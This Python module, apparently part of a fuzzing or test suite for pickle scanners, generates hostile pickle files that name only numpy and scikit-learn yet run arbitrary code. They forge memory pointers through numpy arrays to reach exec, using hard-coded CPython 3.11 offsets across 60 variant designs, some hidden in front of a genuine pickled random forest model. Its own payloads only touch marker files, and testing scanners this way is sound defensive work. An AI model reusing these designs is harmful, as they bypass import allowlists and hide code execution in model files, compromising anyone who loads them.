"""Pickles that name only numpy and scikit-learn, and run any code.

Arrays as windows on the memory of the process.

An array of objects holds pointers. Read as numbers, they are addresses; an array laid over an
address reads what is there; a number written where an object is expected forges one. The designs
follow a Python function to ``builtins`` and its ``exec``. Each variant takes other doors for the
three steps: a *window* on an address, a *view* of an array's bytes, a *call*.
"""

from __future__ import annotations

import builtins
import ctypes
import itertools
import pickle
import sys
from collections.abc import Iterator
from pathlib import Path

from bench.fuzz.assembler import Assembler
from tests.support.hostile.payload import Payload, touch

WINDOWS = ("matrix", "masked", "asarray", "bunch")
VIEWS = ("call", "new", "new with keywords", "frombuffer", "copyreg")
CALLS = ("generator", "randomstate", "partial")
OBJECTS, NUMBERS = 0, 1
"""Where the two dtypes are remembered."""
KERNEL = ("sklearn.gaussian_process.kernels", "ConstantKernel")


def working() -> bool:
    """Whether the original design fits this interpreter.

    The offsets are those of 64-bit CPython 3.11.
    """
    return (
        sys.implementation.name == "cpython"
        and sys.version_info[:2] == (3, 11)
        and sys.maxsize > 2**32
    )


def memory(marks: Path) -> Iterator[Payload]:
    """The original design and its variants, alone and before a good forest."""
    forest = _forest()
    for number, plan in enumerate(itertools.product(WINDOWS, VIEWS, CALLS)):
        name = "_".join(plan).replace(" ", "_")
        code = f"__import__('os').system({touch(marks, name)!r})"
        yield Payload(f"memory_{name}", Design(*plan).stream(code, "exec"), _culprits(plan))
        if number % 2 == 0:
            label = f"valid_{name}"
            value = (
                f"(__import__('os').system({touch(marks, label)!r}), "
                "__import__('numpy').random.MT19937(0))[1]"
            )
            head = Design(*plan).stream(value, "eval")[:-1]
            yield Payload(f"memory_{label}", head + b"0" + forest[2:], _culprits(plan))


def _culprits(plan: tuple[str, str, str]) -> tuple[str, ...]:
    """Any of the doors that the plan takes."""
    windows = {"matrix": "numpy.matrix", "masked": "MaskedArray", "asarray": "numpy.asarray"}
    calls = {
        "generator": "__generator_ctor",
        "randomstate": "__randomstate_ctor",
        "partial": "functools.partial",
    }
    named = (windows.get(plan[0], "numpy.matrix"), "numpy.frombuffer", calls[plan[2]])
    return (*named, "numpy.flip", "numpy.ndarray", "__array_interface__", "builtins.int")


def _forest() -> bytes:
    from sklearn.datasets import load_iris
    from sklearn.ensemble import RandomForestClassifier

    x, y = load_iris(return_X_y=True)
    return pickle.dumps(RandomForestClassifier(3, random_state=0).fit(x.astype("f4"), y), 2)


def offset_of(function: str) -> int:
    """Where the pointer to a builtin is within the keys of the dict of builtins."""
    if not working():
        return 0
    read, names = ctypes.c_uint64.from_address, builtins.__dict__
    keys = read(id(names) + 32).value
    index_bytes, unicode_keys = (ctypes.c_uint8.from_address(keys + at).value for at in (9, 10))
    size = 16 if unicode_keys == 1 else 24
    return 32 + (1 << index_bytes) + size * list(names).index(function) + size - 8


class Design:
    """One way through memory; the original is ("matrix", "call", "generator")."""

    def __init__(self, window: str, view: str, call: str) -> None:
        """The three doors."""
        self.window_by, self.view_by, self.call_by = window, view, call
        self.asm = Assembler(4)

    def stream(self, code: str, function: str) -> bytes:
        """A pickle that calls ``exec`` or ``eval`` with ``code``."""
        at = offset_of(function)
        for letter, place in (("O", OBJECTS), ("<u8", NUMBERS)):
            self.asm.name("numpy", "dtype").text(letter).tuple_of(1).reduce().put(place).pop()
        self.objects(1)
        self.asm.put(10).number(0).name("numpy.random._pickle", "__generator_ctor").set_item().pop()
        self.read(10, 12, 0)  # the address of a function of Python
        self.follow(12, 64, 24, 15)  # its builtins
        self.follow(15, 64, 32, 18)  # their keys
        self.follow(18, at + 8, at, 21)  # exec
        self.objects(2)
        self.asm.put(22).number(0).text(code).set_item().pop()
        self.view(22, 8)
        self.asm.tuple_of(0).get(21).set_item().pop()
        self.call(22)
        return self.asm.stop()

    def follow(self, address: int, size: int, offset: int, out: int) -> None:
        """Remember as ``out`` the number that lies ``offset`` after a remembered address."""
        self.window(address, size)
        self.asm.put(out - 1).pop()
        self.read(out - 1, out, offset)

    def objects(self, count: int) -> None:
        """Push an empty array of objects."""
        asm = (
            self.asm.name("numpy", "ndarray")
            .mark()
            .mark()
            .number(count)
            .tuple()
            .get(OBJECTS)
            .tuple()
        )
        asm.raw(b"R" if self.view_by != "new" else b"\x81")

    def read(self, source: int, out: int, offset: int) -> None:
        """Remember as ``out`` the number at an offset of an array."""
        self.asm.name("builtins", "int")
        self.view(source, offset)
        self.asm.tuple_of(1).reduce().put(out).pop()

    def view(self, source: int, offset: int) -> None:
        """Push an array of one number, laid over the bytes of a remembered array."""
        asm = self.asm
        if self.view_by == "frombuffer":
            asm.name("numpy", "squeeze").name("numpy", "frombuffer").mark()
            asm.get(source).get(NUMBERS).number(1).number(offset).tuple().reduce().tuple_of(
                1
            ).reduce()
            return
        if self.view_by == "new with keywords":
            asm.name("numpy", "ndarray").mark().mark().tuple().get(NUMBERS).tuple()
            asm.empty_dict().text("buffer").get(source).set_item().text("offset").number(
                offset
            ).set_item()
            asm.new_with_keywords()
            return
        if self.view_by == "copyreg":
            asm.name("copyreg", "__newobj__").mark().name("numpy", "ndarray")
        else:
            asm.name("numpy", "ndarray").mark()
        asm.mark().tuple().get(NUMBERS).get(source).number(offset).tuple()
        asm.raw(b"\x81" if self.view_by == "new" else b"R")

    def window(self, address: int, size: int) -> None:
        """Push an array over ``size`` bytes from a remembered address on."""
        asm = self.asm
        makers = {"masked": ("numpy.ma", "MaskedArray"), "asarray": ("numpy", "asarray")}
        asm.name(*makers.get(self.window_by, ("numpy", "matrix")))
        if self.window_by == "bunch":
            asm.name("sklearn.utils._bunch", "Bunch").tuple_of(0).reduce()
        else:
            asm.name(*KERNEL).tuple_of(0).new().empty_dict()
        asm.text("__array_interface__").empty_dict()
        asm.text("data").get(address).flag(False).tuple_of(2).set_item()
        asm.text("shape").number(size).tuple_of(1).set_item()
        asm.text("typestr").text("|u1").set_item().text("version").number(3).set_item()
        asm.set_item()
        if self.window_by != "bunch":
            asm.build()
        asm.put(900)
        if self.window_by == "asarray":
            asm.tuple_of(1).reduce()
        elif self.window_by == "masked":
            asm.flag(False).none().tuple_of(3).reduce()
        else:
            asm.none().flag(False).tuple_of(3).reduce()

    def call(self, array: int) -> None:
        """Call the function that was forged as the second item of an array, with the first."""
        asm = self.asm
        if self.call_by == "generator":
            asm.name("numpy.random._pickle", "__generator_ctor").get(array).reduce()
        elif self.call_by == "randomstate":
            asm.name("numpy.random._pickle", "__randomstate_ctor").get(array).reduce()
        else:
            asm.name("functools", "partial").name("numpy", "flip").get(array).tuple_of(
                1
            ).reduce().reduce()
            asm.tuple_of(0).reduce()
